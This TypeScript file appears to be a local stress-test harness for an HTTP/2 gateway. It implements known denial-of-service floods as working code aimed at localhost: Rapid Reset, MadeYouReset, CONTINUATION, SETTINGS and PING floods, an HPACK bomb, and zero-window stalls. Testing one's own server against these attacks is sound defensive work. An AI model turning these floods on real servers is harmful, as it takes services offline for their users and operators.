import { once } from 'node:events'
import { connect } from 'node:net'
import {
  CANCEL,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frameOfNumbers,
  HEADER_BYTES,
  HEADERS,
  newFrame,
  PING,
  PREFACE,
  RST_STREAM,
  SETTINGS,
  SETTINGS_INITIAL_WINDOW_SIZE,
  settingsFrame,
  WINDOW_UPDATE,
} from '../edge/http2/frames.ts'
import type { Attack } from './client-attacks.ts'

/** What one connection sends again and again, as fast as it is read, until it is closed. */
interface Flood {
  readonly what: string
  readonly connections?: number
  /** The client's window for each stream. */
  readonly window?: number
  /** Sends `frames` at most so often, then keeps the connection. */
  readonly times?: number
  /** @param id a new stream's */
  frames(id: number): Buffer
  /** Opens another connection when one is closed. */
  readonly replaces?: true
  readonly first?: Buffer
}

/** Connections of one address. */
const CONNECTIONS = 50
const PER_WRITE = 100
const ADDRESS = '127.0.0.2'

/** RFC 7541: static fields and literals. The table remembers the authority, not the path. */
export const GET = '\x82'
export const POST = '\x83'
export const REST = `\x86\x04${text('/open/a')}\x41${text('a')}`
const LARGE = `\x86\x04${text('/open/large')}\x41${text('a')}`
/** Refers to the newest entry of the client's table. */
const REMEMBERED = 0xbe
const BOMB_BYTES = 4000

const FLOODS: Readonly<Record<string, Flood>> = {
  idle: { what: 'nothing, for comparison', times: 0, frames: () => Buffer.alloc(0) },
  reset: {
    what: 'requests that it resets (CVE-2023-44487)',
    frames: (id) => Buffer.concat([request(id), frameOfNumbers(RST_STREAM, id, CANCEL)]),
  },
  'reset-again': {
    what: 'requests that it resets; a new connection replaces each that is closed',
    replaces: true,
    frames: (id) => Buffer.concat([request(id), frameOfNumbers(RST_STREAM, id, CANCEL)]),
  },
  'made-you-reset': {
    what: 'requests that it makes the gateway reset (CVE-2025-8671)',
    frames: (id) => Buffer.concat([request(id), frameOfNumbers(WINDOW_UPDATE, id, 0)]),
  },
  continuation: {
    what: 'a head of CONTINUATION frames without end (CVE-2024-27316)',
    first: frame(HEADERS, 0, 1, GET + REST),
    frames: () => frame(CONTINUATION, 0, 1, `\0${text('x')}${text('y'.repeat(100))}`),
  },
  settings: { what: 'SETTINGS (CVE-2019-9515)', frames: () => frame(SETTINGS, 0, 0) },
  ping: { what: 'PING (CVE-2019-9512)', frames: () => frame(PING, 0, 0, '12345678') },
  hpack: {
    what: '16 KB heads that decode to 64 MB (HPACK bomb)',
    first: frame(
      HEADERS,
      END_STREAM | END_HEADERS,
      1,
      `${GET}${REST}\x40${text('a')}${text('v'.repeat(BOMB_BYTES))}`,
    ),
    frames: (id) => frame(HEADERS, END_STREAM | END_HEADERS, id, Buffer.alloc(16_000, REMEMBERED)),
  },
  windows: {
    what: '100 requests for 1 MiB, with a window of 0 bytes (CVE-2019-9511, 9517)',
    window: 0,
    times: 100,
    frames: (id) => request(id, GET + LARGE),
  },
  'empty-data': {
    what: 'a body of empty DATA frames (CVE-2019-9518)',
    first: frame(HEADERS, END_HEADERS, 1, POST + REST),
    frames: () => frame(DATA, 0, 1),
  },
  streams: {
    what: '100 requests whose body does not come',
    connections: 200,
    times: 100,
    frames: (id) => frame(HEADERS, END_HEADERS, id, POST + REST),
  },
  refused: {
    what: 'more requests than it may have streams',
    frames: (id) => frame(HEADERS, END_HEADERS, id, POST + REST),
  },
}

export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = Object.fromEntries(
  Object.entries(FLOODS).map(([name, flood]) => [`h2-${name}`, attackOf(flood)]),
)

function attackOf(flood: Flood): Attack {
  const { what, connections = CONNECTIONS, replaces } = flood
  return {
    what: `HTTP/2, ${connections} connections: ${what}`,
    ...(replaces ? {} : { connections }),
    http2: true,
    begin: async ({ port }) => {
      for (let i = 0; i < connections; i++) void attackFrom(port, flood)
    },
  }
}

async function attackFrom(port: number, flood: Flood): Promise<void> {
  do await floodOnce(port, flood)
  while (flood.replaces)
}

async function floodOnce(
  port: number,
  { first = Buffer.alloc(0), window, times = Number.POSITIVE_INFINITY, frames }: Flood,
): Promise<void> {
  const socket = connect({ port, host: '127.0.0.1', localAddress: ADDRESS, noDelay: true })
  socket.on('error', () => {})
  socket.resume()
  const settings = window === undefined ? [] : ([[SETTINGS_INITIAL_WINDOW_SIZE, window]] as const)
  socket.write(Buffer.concat([Buffer.from(PREFACE), settingsFrame(settings), first]))
  let id = 3
  for (let sent = 0; sent < times && !socket.destroyed; sent += PER_WRITE) {
    const batch = Array.from({ length: PER_WRITE }, (_, at) => frames(id + 2 * at))
    id += 2 * PER_WRITE
    if (!socket.write(Buffer.concat(batch)))
      await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => {})
    // Lets others in this process have their turn.
    else await new Promise((resolve) => setImmediate(resolve))
  }
}

export function request(id: number, block = GET + REST): Buffer {
  return frame(HEADERS, END_STREAM | END_HEADERS, id, block)
}

export function frame(type: number, flags: number, id: number, payload: Buffer | string = ''): Buffer {
  const content = typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload
  const whole = newFrame({ type, flags, id, length: content.length })
  content.copy(whole, HEADER_BYTES)
  return whole
}

/** RFC 7541 section 5.2, without Huffman code. */
function text(value: string): string {
  if (value.length < 127) return String.fromCharCode(value.length) + value
  let length = '\x7f'
  let rest = value.length - 127
  for (; rest >= 128; rest >>= 7) length += String.fromCharCode((rest & 127) | 128)
  return length + String.fromCharCode(rest) + value
}
